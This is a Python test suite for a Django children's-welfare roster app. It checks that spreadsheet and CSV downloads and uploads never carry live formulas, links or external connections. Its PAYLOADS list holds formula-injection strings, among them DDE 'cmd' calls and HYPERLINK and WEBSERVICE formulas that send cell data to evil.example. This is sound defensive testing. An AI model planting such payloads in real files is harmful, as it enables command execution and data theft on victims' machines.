"""Text that a spreadsheet would take for a formula: in every download it is text in a text cell, and nothing else."""

import io
import re
import zipfile
from typing import Any

import pytest
import python_calamine
import xlsxwriter
from django.urls import reverse
from lxml import etree

from aixin.exchange.roster import roster_of
from tests.attacks.found_forms import Stage
from tests.attacks.planted import columns_of, hostile_rows, kinds, plant
from tests.attacks.snapshot import undone
from tests.contract.test_personal_data import exported
from tests.contract.world import workbook

PAYLOADS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"点")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3", "-2+3+cmd|'x'!A0",
    "@SUM(1+1)*cmd|'x'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''=1+1", "＝1+1", "＋1", "=1+1;", '"=1+1', " =1+1",
    "=IMPORTXML(A1)", "{=1+1}", "=DDE(1)", "https://evil.example/", "mailto:a@b.c", "internal:x!A1", "%0A=1+1", "=-1", "-1",
)  # fmt: skip
SPREADSHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
TEXT_TYPES = {"s", "inlineStr", "str"}
# Files of figures: their numbers are numbers, to be added up; nobody typed them.
OF_FIGURES = "/reports/"
NOT_TEXT = "is no text"
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE]-?\d+)?")


def faults_of(content: bytes) -> list[str]:
    """Return whatever in a workbook is or starts a formula, a link or a connection to somewhere else."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if re.search(r"^xl/(externalLinks|connections|queryTables)|vbaProject|activeX|embeddings", name):
                found.append(name)
            if name.endswith((".xml", ".rels")):
                found += _faults_of_part(name, archive.read(name))
    return found


def _faults_of_part(name: str, source: bytes) -> list[str]:
    tree, found = etree.fromstring(source), []
    for element in tree.iter():
        tag = etree.QName(element).localname
        if tag in {"f", "hyperlink", "ddeLink", "oleLink", "formula"}:
            found.append(f"{name} <{tag}> {element.text}")
        # The repeated head lines are the one name that a workbook of ours defines.
        if tag == "definedName" and not re.search(r"!\$\d+:\$\d+$", element.text or ""):
            found.append(f"{name} <definedName> {element.text}")
        if tag == "c" and element.get("t") not in TEXT_TYPES and len(element):
            found.append(f"{name} {element.get('r')} {''.join(element.itertext())} {NOT_TEXT}")
        if element.get("TargetMode") == "External":
            found.append(f"{name} leads to {element.get('Target')}")
    return found


def cells_of(content: bytes) -> list[Any]:
    book = python_calamine.load_workbook(io.BytesIO(content))
    return [
        cell for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for cell in row
    ]


def check(content: bytes, kind: str) -> int:
    """Assert that a download calculates nothing; return how many of its cells hold a payload as text."""
    if not content.startswith(b"PK"):
        return _check_text(content.decode("utf-8-sig"), kind)
    assert [fault for fault in faults_of(content) if not _is_a_figure(fault, kind)] == [], kind
    if b"xl/workbook.xml" not in content:
        return 0
    cells = cells_of(content)
    texts = [cell for cell in cells if isinstance(cell, str)]
    assert kind.startswith(OF_FIGURES) or texts == cells, kind
    return sum(any(payload.strip() in cell for payload in PAYLOADS) for cell in texts)


def _is_a_figure(fault: str, kind: str) -> bool:
    return (
        kind.startswith(OF_FIGURES) and fault.endswith(NOT_TEXT) and bool(NUMBER.fullmatch(fault.split()[-4]))
    )


def _check_text(text: str, kind: str) -> int:
    """A separated text is opened by a spreadsheet too, which has no text cells there."""
    for line in text.splitlines():
        for cell in re.split(r"[,;\t]", line):
            assert not re.match(r'"?[=+@\t\r]|"?-\D', cell), f"{kind}: {cell}"
    return 0


def test_the_check_sees_a_formula_and_a_link() -> None:
    book = io.BytesIO()
    with xlsxwriter.Workbook(book) as written:
        sheet = written.add_worksheet()
        sheet.write(0, 0, "=1+1")
        sheet.write(1, 0, "https://evil.example/")
        sheet.write(2, 0, 5)
    found = " ".join(faults_of(book.getvalue()))
    assert all(word in found for word in ("<f>", "hyperlink", "is no text", "leads to"))


@pytest.mark.parametrize("row", ["children:export", "volunteers:export", "pairings:export"])
@pytest.mark.parametrize("who", ["wenshui", "city"])
def test_every_list_exports_text_only(taken_back: Stage, who: str, row: str) -> None:
    """Every free-text field of every row holds a formula; names and filters stand in title and watermark too."""
    plant(PAYLOADS)
    answer = exported(taken_back.world, taken_back.session(who), row)
    shown = check(answer.content, row)
    assert shown >= (5 if who == "wenshui" else 0)


@pytest.mark.parametrize("who", ["wenshui", "city", "mama", "sysadmin", "auditor"])
def test_every_file_that_can_be_reached_is_text_only(taken_back: Stage, who: str) -> None:
    """By link or by button: whoever adds a download adds it to this test."""
    # What is reached is kept for the other tests on this stage: it is found before anything is planted.
    reached = taken_back.crawl(who).files
    plant(PAYLOADS)
    files = 0
    client = taken_back.session(who)
    answers = {address: client.get(address) for address in reached}
    for form in taken_back.forms(who):
        client = taken_back.as_fresh(who)
        with undone():
            answers[f"POST {form.action}"] = client.post(form.action, form.with_body(), follow=True)
    for address, answer in answers.items():
        kind = answer.headers.get("Content-Type", "")
        if answer.status_code == 200 and not re.search("html|json|image", kind):
            files += 1
            check(answer.content, address)
    assert files >= {"wenshui": 3}.get(who, 0)


@pytest.mark.parametrize("kind", kinds())
def test_rows_that_are_sent_back_are_sent_back_as_text(taken_back: Stage, kind: str) -> None:
    """Every column of every roster, each with every payload, uploaded as text cells and returned with the reasons."""
    headings = (*(column.title for column in columns_of(kind)), PAYLOADS[0], PAYLOADS[1])
    rows = [(*row, PAYLOADS[2], PAYLOADS[3]) for row in hostile_rows(kind, PAYLOADS, {})]
    file = io.BytesIO(workbook(headings, rows))
    file.name = "=1+1.xlsx"
    client = taken_back.session("wenshui")
    sent = client.post(roster_of(kind).address("import"), {"file": file})
    assert sent.status_code == 302
    back = client.get(sent.headers["Location"] + "rejected.xlsx")
    assert check(back.content, kind) > len(columns_of(kind)) * 5
    client.post(sent.headers["Location"] + "confirm/")
    assert check(client.get(sent.headers["Location"] + "rejected.xlsx").content, kind) > 0


def test_a_formula_in_an_uploaded_file_is_not_calculated(taken_back: Stage) -> None:
    """The stored value is read, whatever the formula would give; and it goes back as text."""
    file = io.BytesIO()
    with xlsxwriter.Workbook(file, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ("姓名", "身份证号", "手机号", "乡镇", "备注"))
        sheet.write_formula(1, 0, '="郑"&"新来"', value="郑新来")
        sheet.write_string(1, 1, "991121201401010000")
        sheet.write_string(1, 3, "凤城镇")
        sheet.write_formula(1, 4, '=WEBSERVICE("https://evil.example/")', value="=IMPORTXML(1)")
    upload = io.BytesIO(file.getvalue())
    upload.name = "公式.xlsx"
    client = taken_back.session("wenshui")
    sent = client.post(reverse("volunteers:import"), {"file": upload})
    back = client.get(sent.headers["Location"] + "rejected.xlsx").content
    assert faults_of(back) == []
    assert "=IMPORTXML(1)" in cells_of(back)
    assert not [cell for cell in cells_of(back) if "WEBSERVICE" in cell]


@pytest.mark.parametrize("payload", [text for text in PAYLOADS if text.strip("' \t\r\n")[0] in "=+@{＝"])
def test_a_name_cannot_be_a_formula(taken_back: Stage, payload: str) -> None:
    """Typed names with such signs are refused, so that they need not be trusted anywhere else."""
    client = taken_back.session("wenshui")
    body = {
        "name": payload[:40], "region": "141121100018", "birth": "2015-01-01", "category": "LEFT_BEHIND", "consent": "GIVEN",
        "guardian_name": "甲",
    }  # fmt: skip
    answer = client.post(reverse("children:create"), body)
    assert answer.status_code == 200
    assert "姓名里不能有" in answer.content.decode()
